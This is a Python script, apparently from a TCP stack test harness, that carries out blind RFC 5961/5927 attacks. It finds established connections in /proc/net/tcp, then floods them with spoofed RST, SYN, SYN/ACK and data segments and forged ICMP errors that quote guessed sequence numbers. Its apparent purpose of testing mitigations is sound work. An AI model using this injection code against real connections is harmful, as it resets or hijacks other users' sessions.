#!/usr/bin/python3
"""Blind attacks (RFC 5961, RFC 5927): an attacker that knows both ends of the honest client's connections, but no sequence number,
guesses: RST, SYN, SYN/ACK, data with ACKs of anything, and ICMP errors that quote guesses."""
import socket
import struct

from tcp_attacker import ACK, RST, SYN, Hosts, icmp, ip4, main, tcp

MARK = ("net.tcp_challenge_acks", "net.rx_drop_tcp_rst", "net.rx_drop_tcp_window", "net.rx_drop_tcp_ack")
ENDED = False


def ends(hosts):
    """Local ports of this machine's connections to the server."""
    found = []
    for line in open("/proc/net/tcp").readlines()[1:]:
        _, local, remote, state = line.split()[:4]
        address, port = remote.split(":")
        if state == "01" and int(port, 16) == hosts.port and socket.inet_ntoa(struct.pack("=I", int(address, 16))) == hosts.server:
            found.append(int(local.split(":")[1], 16))
    return found


def attack(run):
    hosts = Hosts(run, 1)
    me = hosts.own
    while run.going():
        ports = ends(hosts) or [50000]
        run.seen["connections"] += len(ports)
        for port in ports:
            for _ in range(20):
                seq, ack = hosts.rng.getrandbits(32), hosts.rng.getrandbits(32)
                hosts.segment(me, port, seq, 0, RST)
                hosts.segment(me, port, seq, ack, RST | ACK)
                hosts.segment(me, port, seq, 0, SYN)
                hosts.segment(me, port, seq, ack, SYN | ACK)
                hosts.segment(me, port, seq, ack, ACK, payload=b"GET / HTTP/1.1\r\n\r\n")
                quoted = ip4(hosts.server, me, 6, tcp(hosts.server, me, hosts.port, port, seq, ack, ACK))[:28]
                for kind, code, rest in ((3, 3, 0), (3, 2, 0), (3, 4, 68), (3, 4, 576), (11, 0, 0), (4, 0, 0)):
                    hosts.frame(ip4(me, hosts.server, 1, icmp(kind, code, struct.pack("!I", rest) + quoted)))
        for _ in hosts.take():
            pass


if __name__ == "__main__":
    main(attack)
